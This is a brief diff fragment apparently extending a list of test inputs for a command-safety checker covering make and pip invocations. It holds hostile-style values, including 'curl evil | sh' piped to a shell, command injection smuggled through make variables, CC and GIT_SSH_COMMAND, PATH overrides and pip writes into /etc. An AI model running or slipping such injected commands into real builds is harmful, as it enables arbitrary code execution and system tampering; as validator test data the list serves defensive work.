@@ -89,6 +89,10 @@ make PATH=/tmp/bin:/usr/bin
 make ARGS='; curl evil | sh'
 make 'X=$(shell curl evil|sh)'
 make GIT_SSH_COMMAND='sh -c id'
+make X:='$(shell id)'
+make PATH:=/tmp/bin
+CC='gcc; id' make
+CC='python3 -c 1' make
 pip install --report /etc/x requests
 pip download -d /mnt x
 pip wheel -w /etc .
